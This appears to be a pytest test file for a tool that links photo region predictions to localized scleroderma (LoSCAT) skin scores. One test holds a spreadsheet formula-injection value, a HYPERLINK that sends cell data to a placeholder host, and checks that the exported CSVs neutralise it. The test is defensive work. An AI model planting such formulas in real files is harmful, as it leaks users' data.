"""`link` on a hand-built clinic: every count below is worked out by hand in the comments."""

import csv
import json

import pytest

from loscat_hf.cli import main
from loscat_hf.errors import LoscatError
from loscat_hf.link import run_link


def _csv(path, header, rows):
    path.parent.mkdir(parents=True, exist_ok=True)
    with open(path, "w", newline="") as f:
        w = csv.writer(f)
        w.writerow(header)
        w.writerows(rows)
    return path


def _read(path):
    with open(path, newline="") as f:
        return list(csv.DictReader(f))


PRED_HEADER = ["image", "region", "probability", "needs_review", "status", "error"]
SCORE_HEADER = ["patient_id", "visit", "site", "erythema", "skin_thickness", "new_extension",
                "dermal_atrophy", "subcutaneous_atrophy", "dyspigmentation"]


@pytest.fixture
def clinic(tmp_path):
    preds = _csv(tmp_path / "predictions.csv", PRED_HEADER, [
        ["unlabeled/a.jpg", "chest", "0.9", "False", "ok", ""],   # P1 V1 (metadata has a longer path)
        ["unlabeled/b.jpg", "hand", "0.8", "False", "ok", ""],    # P1 V1
        ["c.jpg", "thigh", "0.7", "True", "ok", ""],              # P2 V1
        ["d.jpg", "head", "0.9", "False", "ok", ""],              # P3 V1: no score rows -> no_scores
        ["e.jpg", "head", "0.9", "False", "ok", ""],              # not in metadata -> no_metadata
        ["dup.jpg", "foot", "0.9", "False", "ok", ""],            # two patients' dup.jpg -> ambiguous
        ["f.png", "", "", "", "unreadable", "broken"],            # prediction error
    ])
    meta = _csv(tmp_path / "meta.csv", ["image", "patient_id", "visit"], [
        ["clinic/unlabeled/a.jpg", "P1", "V1"], ["clinic/unlabeled/b.jpg", "P1", "V1"],
        ["clinic/c.jpg", "P2", "V1"], ["clinic/d.jpg", "P3", "V1"],
        ["x/dup.jpg", "P1", "V1"], ["y/dup.jpg", "P2", "V1"],
    ])
    scores = _csv(tmp_path / "scores.csv", SCORE_HEADER, [
        ["P1", "V1", "chest", 1, 1, 0, 0, 0, 0],        # mLoSSI 2, LoSDI 0
        ["P1", "V1", "left_hand", 0, 0, 0, 1, 0, 1],    # 0, 2
        ["P1", "V1", "Rt. Hand", 1, 0, 0, 0, 0, 0],     # 1, 0 -> hand at P1 V1: 1, 2
        ["P1", "V2", "chest", 0, 0, 0, 2, 0, 0],        # 0, 2; no photo of P1 V2 -> no_photo
        ["P2", "V1", "LEFT_THIGH", 2, 0, 3, 0, 0, 0],   # 5, 0 (new_extension is 0 or 3)
        ["P2", "V1", "tail", 3, 3, 3, 3, 3, 3],         # unknown_site
    ])
    return preds, scores, meta


def test_hand_counted_case(clinic, tmp_path):
    preds, scores, meta = clinic
    res = run_link(preds, scores, meta, tmp_path / "out")
    s = res.summary
    assert (s["photos_total"], s["photos_linked"], s["photos_unmatched"], s["photos_error"]) == (7, 3, 3, 1)
    assert s["unmatched_photo_reasons"] == {"ambiguous_metadata": 1, "no_metadata": 1, "no_scores": 1}
    assert s["error_statuses"] == {"unreadable": 1}
    assert (s["score_rows_total"], s["score_rows_unmatched"]) == (6, 2)
    assert s["unmatched_score_reasons"] == {"no_photo": 1, "unknown_site": 1}
    assert s["patients_scored"] == 2 and s["patients_with_photos"] == 2
    assert s["mean_mLoSSI_per_region"] == {"chest": 1.0, "hand": 1.0, "thigh": 5.0}
    assert json.loads((tmp_path / "out" / "summary.json").read_text()) == s

    out = tmp_path / "out"
    linked = {r["image"]: r for r in _read(out / "linked_photos.csv")}
    assert set(linked) == {"unlabeled/a.jpg", "unlabeled/b.jpg", "c.jpg"}
    assert (linked["unlabeled/b.jpg"]["scored_sites"], linked["unlabeled/b.jpg"]["mLoSSI"],
            linked["unlabeled/b.jpg"]["LoSDI"]) == ("left_hand;right_hand", "1.0", "2.0")
    assert (linked["c.jpg"]["patient_id"], linked["c.jpg"]["scored_sites"], linked["c.jpg"]["mLoSSI"]) == (
        "P2", "left_thigh", "5.0")

    per_region = {r["region"]: int(r["photos"]) for r in _read(out / "photos_per_region.csv")}
    assert len(per_region) == 12 and sum(per_region.values()) == 3
    assert per_region["chest"] == per_region["hand"] == per_region["thigh"] == 1

    dist = {r["region"]: r for r in _read(out / "lesion_distribution.csv")}
    assert (dist["chest"]["share_activity"], dist["chest"]["share_damage"]) == ("0.5", "0.5")
    assert (dist["hand"]["patients_with_activity"], dist["hand"]["patients_with_damage"]) == ("1", "1")
    assert (dist["thigh"]["share_activity"], dist["thigh"]["share_damage"]) == ("0.5", "0.0")
    assert dist["head"]["patients_with_activity"] == "0"

    rv = {(r["region"], r["visit"]): r for r in _read(out / "scores_by_region_visit.csv")}
    assert set(rv) == {("chest", "V1"), ("chest", "V2"), ("hand", "V1"), ("thigh", "V1")}
    assert (rv["chest", "V2"]["mLoSSI_sum"], rv["chest", "V2"]["LoSDI_sum"]) == ("0.0", "2.0")
    assert (rv["hand", "V1"]["mLoSSI_mean"], rv["hand", "V1"]["LoSDI_mean"]) == ("1.0", "2.0")

    unmatched = {r["image"]: r["reason"] for r in _read(out / "unmatched_photos.csv")}
    assert unmatched == {"d.jpg": "no_scores", "e.jpg": "no_metadata", "dup.jpg": "ambiguous_metadata"}
    assert [r["image"] for r in _read(out / "prediction_errors.csv")] == ["f.png"]
    assert sorted(r["reason"] for r in _read(out / "unmatched_scores.csv")) == ["no_photo", "unknown_site"]
    for png in ("body_map_photos.png", "body_map_mlossi.png", "scores_by_region_visit.png"):
        assert (out / png).read_bytes()[:4] == b"\x89PNG"


def _with_regions(preds, path, empty=()):
    """The clinic's predictions as today's predict writes a single-region model's: `regions` = `region` and
    `regions_probability` = `probability` on every answered row; `empty`: photos given no region instead."""
    rows = _read(preds)
    for r in rows:
        ok = r["status"] == "ok" and r["image"] not in empty
        r["regions"], r["regions_probability"] = (r["region"], r["probability"]) if ok else ("", "")
    return _csv(path, [*PRED_HEADER[:3], "regions", "regions_probability", *PRED_HEADER[3:]],
                [[r[c] for c in (*PRED_HEADER[:3], "regions", "regions_probability", *PRED_HEADER[3:])]
                 for r in rows])


def test_a_single_region_models_regions_column_changes_no_byte(clinic, tmp_path):
    """Multi-region linking follows the rows, not the header: a `regions` column that is every answered
    row's `region` gives the report of the CSV without it, byte for byte (summary.json's keys included); one
    answered row without a region makes it a multi-region model's."""
    preds, scores, meta = clinic
    out = tmp_path / "out"  # one folder for both runs: summary.json names it
    before = run_link(preds, scores, meta, out, plots=False).summary
    written = {p.name: p.read_bytes() for p in out.iterdir()}
    after = run_link(_with_regions(preds, tmp_path / "with.csv"), scores, meta, out, plots=False).summary
    assert after == before and {p.name: p.read_bytes() for p in out.iterdir()} == written
    assert _read(out / "unmatched_photos.csv") and "photos_several_regions" not in after

    multi = run_link(_with_regions(preds, tmp_path / "none.csv", empty={"c.jpg"}), scores, meta,
                     tmp_path / "multi", plots=False).summary
    assert multi["photos_several_regions"] == 0 and multi["photos_linked"] == before["photos_linked"] - 1
    assert multi["unmatched_photo_reasons"]["no_region_above_threshold"] == 1
    assert "regions" in _read(tmp_path / "multi" / "linked_photos.csv")[0]


def test_packed_dataset_folder_as_metadata(tmp_path):
    ds = tmp_path / "ds"
    _csv(ds / "train" / "metadata.csv", ["file_name", "label", "site", "patient_id", "visit", "image_id"],
         [["1.jpg", "head", "head", "P9", "V2", "1"]])
    _csv(ds / "validation" / "metadata.csv",
         ["file_name", "label", "site", "patient_id", "visit", "image_id"],
         [["1.jpg", "foot", "left_foot", "P8", "V1", "1"]])
    preds = _csv(tmp_path / "p.csv", PRED_HEADER, [["train/1.jpg", "head", "0.9", "False", "ok", ""],
                                                   ["validation/1.jpg", "leg", "0.6", "True", "ok", ""]])
    scores = _csv(tmp_path / "s.csv", SCORE_HEADER, [["P9", "V2", "head", 1, 0, 0, 0, 0, 0],
                                                     ["P8", "V1", "left_foot", 0, 0, 0, 0, 0, 0]])
    s = run_link(preds, scores, ds, tmp_path / "o", plots=False).summary
    assert s["photos_linked"] == 2 and s["score_rows_unmatched"] == 0
    linked = {r["image"]: r for r in _read(tmp_path / "o" / "linked_photos.csv")}
    assert linked["train/1.jpg"]["patient_id"] == "P9"
    assert linked["validation/1.jpg"]["scored_sites"] == ""  # predicted leg, scored foot: kept, not dropped


def test_bad_inputs_are_user_errors(clinic, tmp_path, capsys):
    preds, scores, meta = clinic
    bad = _csv(tmp_path / "bad.csv", ["image", "patient"], [["a.jpg", "P1"]])
    with pytest.raises(LoscatError, match="lacks column"):
        run_link(preds, scores, bad, tmp_path / "o")
    rc = main(["link", "--predictions", str(preds), "--scores", str(bad), "--metadata", str(meta),
               "--out", str(tmp_path / "o")])
    assert rc == 2 and "lacks column" in capsys.readouterr().err


def _one_visit(tmp_path, score_rows, pred_rows=None, meta_rows=None):
    preds = _csv(tmp_path / "p.csv", PRED_HEADER, pred_rows or [["a.jpg", "chest", "0.9", "False", "ok", ""]])
    meta = _csv(tmp_path / "m.csv", ["image", "patient_id", "visit"], meta_rows or [["a.jpg", "P1", "V1"]])
    return preds, _csv(tmp_path / "s.csv", SCORE_HEADER, score_rows), meta


def test_empty_score_cells_stay_missing(tmp_path):
    preds, scores, meta = _one_visit(tmp_path, [
        ["P1", "V1", "chest", "", 2, 3, "", "", ""],      # mLoSSI 5 with erythema missing; LoSDI all missing
        ["P1", "V1", "abdomen", "", "", "", 0, 0, 0],    # mLoSSI all missing; LoSDI 0 (a real 0)
        ["P1", "V2", "chest", "", "", "", "", "", ""],   # nothing scored: no activity and no damage counted
    ])
    s = run_link(preds, scores, meta, tmp_path / "o", plots=False).summary
    assert s["score_cells_missing"] == {"erythema": 3, "skin_thickness": 2, "new_extension": 2,
                                        "dermal_atrophy": 2, "subcutaneous_atrophy": 2, "dyspigmentation": 2}
    assert s["score_rows_with_missing"] == 3 and s["mean_mLoSSI_per_region"] == {"chest": 5.0}
    (linked,) = _read(tmp_path / "o" / "linked_photos.csv")
    assert (linked["mLoSSI"], linked["mLoSSI_missing"], linked["LoSDI"], linked["LoSDI_missing"]) == (
        "5.0", "1", "", "3")
    rv = {(r["region"], r["visit"]): r for r in _read(tmp_path / "o" / "scores_by_region_visit.csv")}
    assert (rv["chest", "V1"]["mLoSSI_sum"], rv["chest", "V1"]["LoSDI_sum"]) == ("5.0", "")
    assert (rv["abdomen", "V1"]["mLoSSI_sum"], rv["abdomen", "V1"]["LoSDI_sum"]) == ("", "0.0")
    assert (rv["chest", "V2"]["mLoSSI_sum"], rv["chest", "V2"]["mLoSSI_mean"], rv["chest", "V2"]["LoSDI_sum"],
            rv["chest", "V2"]["mLoSSI_missing"]) == ("", "", "", "3")
    unmatched = {r["row"]: r for r in _read(tmp_path / "o" / "unmatched_scores.csv")}
    assert unmatched["4"]["reason"] == "no_photo" and unmatched["4"]["erythema"] == ""
    dist = {r["region"]: r for r in _read(tmp_path / "o" / "lesion_distribution.csv")}
    assert (dist["chest"]["patients_with_activity"], dist["chest"]["patients_with_damage"]) == ("1", "0")


@pytest.mark.parametrize("bad", [9, -1, 100, 2.5, "x"])
def test_out_of_range_scores_are_refused_with_the_row(tmp_path, bad):
    preds, scores, meta = _one_visit(tmp_path, [["P1", "V1", "chest", 1, 0, 0, 0, 0, 0],
                                                ["P1", "V1", "abdomen", bad, 0, 0, 0, 0, 0]])
    with pytest.raises(LoscatError, match=rf"row 3: erythema '{bad}' is (out of range|not a number)"):
        run_link(preds, scores, meta, tmp_path / "o", plots=False)
    assert not (tmp_path / "o").exists()  # refused before anything is written


def test_repeated_score_rows_are_refused_not_added_twice(tmp_path, capsys):
    preds, scores, meta = _one_visit(tmp_path, [["P1", "V1", "chest", 1, 0, 0, 0, 0, 0],
                                                ["P1", "V1", "tail", 1, 0, 0, 0, 0, 0],
                                                ["P1", "V1", "Chest", 1, 0, 0, 0, 0, 0],
                                                ["P1", "V1", "TAIL ", 1, 0, 0, 0, 0, 0]])
    with pytest.raises(LoscatError, match="row 4: repeats row 2.*row 5: repeats row 3"):
        run_link(preds, scores, meta, tmp_path / "o", plots=False)
    rc = main(["link", "--predictions", str(preds), "--scores", str(scores), "--metadata", str(meta),
               "--out", str(tmp_path / "o")])
    err = capsys.readouterr().err.strip()
    assert rc == 2 and "repeats row 2" in err and len(err.splitlines()) == 1


def test_link_and_prepare_share_one_reader(tmp_path):
    # new_extension is 0 or 3 in the LoSCAT; link used to accept anything numeric
    preds, scores, meta = _one_visit(tmp_path, [["P1", "V1", "chest", 1, 0, 1, 0, 0, 0]])
    with pytest.raises(LoscatError, match="row 2: new_extension '1' is out of range"):
        run_link(preds, scores, meta, tmp_path / "o", plots=False)
    import loscat_hf.link as link
    from loscat_hf.data import score_tables as score_module

    assert not any(hasattr(link, name) for name in ("ACTIVITY", "DAMAGE", "_score"))
    assert link.SCORE_COLUMNS is score_module.SCORE_COLUMNS


def test_link_csvs_cannot_run_formulas(tmp_path):
    # predict writes '=... for a file name starting with '=': link reads it back and matches the metadata
    evil = '=HYPERLINK("http://x/?"&A1).jpg'
    preds, scores, meta = _one_visit(
        tmp_path, [["-P1", "@V1", "chest", 1, 0, 0, 0, 0, 0], ["-P1", "@V1", "+tail", 1, 0, 0, 0, 0, 0]],
        pred_rows=[["'" + evil, "chest", "0.9", "False", "ok", ""],
                   ["+x.jpg", "", "", "", "unreadable", "-err"]],
        meta_rows=[[evil, "-P1", "@V1"]])
    s = run_link(preds, scores, meta, tmp_path / "o", plots=False).summary
    assert s["photos_linked"] == 1
    out = tmp_path / "o"
    linked = (out / "linked_photos.csv").read_text()
    assert "'=HYPERLINK" in linked and "''=" not in linked and "'-P1" in linked and "'@V1" in linked
    assert "'+x.jpg" in (out / "prediction_errors.csv").read_text()
    assert "'+tail" in (out / "unmatched_scores.csv").read_text()
    for f in out.glob("*.csv"):
        for row in csv.reader(f.open(newline="")):
            assert not any(cell[:1] in ("=", "+", "@") or (cell[:1] == "-" and not cell[1:2].isdigit())
                           for cell in row), (f.name, row)


def test_packed_dataset_codes_meet_the_clinic_ids(tmp_path):
    """prepare writes opaque codes; link maps them back through private/codes.csv to join the score table."""
    from loscat_hf.data.dataset import read_split_metadata
    from tests.test_packing import _items, _pack

    items = _items(tmp_path / "photos", n_patients=4, per_patient=1)
    _pack(items, tmp_path / "ds", val_fraction=0.5)
    meta = [(s, r) for s in ("train", "validation") for r in read_split_metadata(tmp_path / "ds" / s)]
    assert all(r["patient_id"].startswith("P0") for _, r in meta)  # codes, not the MRNs
    preds = _csv(tmp_path / "p.csv", PRED_HEADER,
                 [[f"{s}/{r['file_name']}", r["label"], "0.9", "False", "ok", ""] for s, r in meta])
    scores = _csv(tmp_path / "s.csv", SCORE_HEADER,
                  [[i.patient_id, i.visit, i.site, 1, 0, 0, 0, 0, 0] for i in items])
    s = run_link(preds, scores, tmp_path / "ds", tmp_path / "o", plots=False).summary
    assert s["photos_linked"] == 4 and s["score_rows_unmatched"] == 0
    assert ({r["patient_id"] for r in _read(tmp_path / "o" / "linked_photos.csv")}
            == {i.patient_id for i in items})
